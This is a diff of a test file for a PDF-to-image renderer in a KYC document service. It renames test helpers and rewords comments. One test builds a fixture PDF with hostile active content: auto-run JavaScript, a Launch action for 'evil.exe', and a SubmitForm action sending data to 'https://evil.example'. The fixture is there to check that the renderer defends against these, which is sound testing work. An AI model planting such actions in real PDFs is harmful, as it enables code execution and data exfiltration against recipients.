@@ -4,11 +4,11 @@ import { describe, expect, test } from 'vitest'
 import { MAX_PDF_PAGES } from '#contract/documents.ts'
 import { renderPdf } from '#server/kyc/documents/render-pdf.ts'
 import { EXIT } from '#server/kyc/documents/rendering.ts'
-import { packedObjects, pdfFile, pdfOf } from '#server/test/files.ts'
+import { packedObjectsPdf, pdfFile, pdfWithPages } from '#server/test/files.ts'
 
 const text = (words: string) => `BT /F1 60 Tf 50 700 Td (${words}) Tj ET`
 
-/** How dark a part of a picture is: 0 for white paper. */
+/** Returns the darkness of a part of a picture. White paper has 0. */
 async function ink(picture: Buffer, part?: { top: number; height: number }): Promise<number> {
   const { width = 0, height = 0 } = await sharp(picture).metadata()
   const area = { left: 0, width, top: part?.top ?? 0, height: part?.height ?? height }
@@ -25,15 +25,15 @@ function withPasswords(passwords: { userPassword?: string; ownerPassword?: strin
 const expectRefusal = (bytes: Buffer, exitCode: number) => expect(renderPdf(bytes)).rejects.toMatchObject({ exitCode })
 
 describe('a PDF', () => {
-  test('becomes a picture of what it says', async () => {
-    const picture = await renderPdf(pdfOf({ pages: [text('Gas for Ann Lee')] }))
+  test('becomes a picture of its pages', async () => {
+    const picture = await renderPdf(pdfWithPages({ pages: [text('Gas for Ann Lee')] }))
     expect(await sharp(picture).metadata()).toMatchObject({ format: 'jpeg', width: 1767, height: 2500 })
     expect(await ink(picture)).toBeGreaterThan(0.4)
     expect(await ink(await renderPdf(pdfFile()))).toBe(0)
   })
 
   test('with several pages shows them one below the other', async () => {
-    const picture = await renderPdf(pdfOf({ pages: [text('One'), '', text('Three')] }))
+    const picture = await renderPdf(pdfWithPages({ pages: [text('One'), '', text('Three')] }))
     const { height = 0 } = await sharp(picture).metadata()
     expect(height).toBe(3 * 2500 + 2 * 24)
     expect(await ink(picture, { top: 0, height: 2500 })).toBeGreaterThan(0.4)
@@ -42,23 +42,23 @@ describe('a PDF', () => {
   })
 
   test('has a maximum of pages and of pixels', async () => {
-    const most = await renderPdf(pdfOf({ pages: Array.from({ length: MAX_PDF_PAGES }, () => text('x')) }))
+    const most = await renderPdf(pdfWithPages({ pages: Array.from({ length: MAX_PDF_PAGES }, () => text('x')) }))
     const { width = 0, height = 0 } = await sharp(most).metadata()
     expect(width * height).toBeLessThan(16_500_000)
-    await expectRefusal(pdfOf({ pages: Array.from({ length: MAX_PDF_PAGES + 1 }, () => '') }), EXIT.tooLong)
+    await expectRefusal(pdfWithPages({ pages: Array.from({ length: MAX_PDF_PAGES + 1 }, () => '') }), EXIT.tooLong)
     for (const box of ['0 0 1000000 1', '0 0 1 1000000', '0 0 0.001 0.001', '0 0 14400 14400']) {
-      const picture = await renderPdf(pdfOf({ page: `/MediaBox [${box}]` }))
+      const picture = await renderPdf(pdfWithPages({ page: `/MediaBox [${box}]` }))
       const side = await sharp(picture).metadata()
       expect(side.width * side.height).toBeLessThanOrEqual(2500 * 2500)
     }
   })
 
   test('without pages, or that is not a PDF, is refused', async () => {
-    await expectRefusal(pdfOf({ pages: [] }), EXIT.unreadable)
+    await expectRefusal(pdfWithPages({ pages: [] }), EXIT.unreadable)
     await expectRefusal(Buffer.from('%PDF-1.7\nnothing\n%%EOF'), EXIT.unreadable)
   })
 
-  test('that asks for a password is refused; one that only asks not to be printed is taken', async () => {
+  test('with a password is refused, and one with only a print restriction is accepted', async () => {
     await expectRefusal(await withPasswords({ userPassword: 'secret', ownerPassword: 'owner' }), EXIT.locked)
     expect(await ink(await renderPdf(await withPasswords({ ownerPassword: 'owner' })))).toBeGreaterThan(0.4)
   })
@@ -76,14 +76,14 @@ describe('a PDF', () => {
       action('ImportData', '/F (evil)'),
       action('Launch', '/F (evil.exe)'),
     ]
-    const pdf = pdfOf({
+    const pdf = pdfWithPages({
       pages: [text('A bill')],
       catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AcroForm << /XFA 100 0 R >>',
       page: `/Annots [${actions.join(' ')}] /AA << /O << /S /SubmitForm /F (https://evil.example) >> >>`,
       objects: [
         '% /Encrypt\n<< /S /JavaScript /JS (evil) >>',
         '<< /Type /EmbeddedFile /Length 4 >>\nstream\nevil\nendstream',
-        packedObjects('9 0 << /S /JavaScript /JS (evil) >>'),
+        packedObjectsPdf('9 0 << /S /JavaScript /JS (evil) >>'),
       ],
     })
     expect(pdf.includes('evil')).toBe(true)
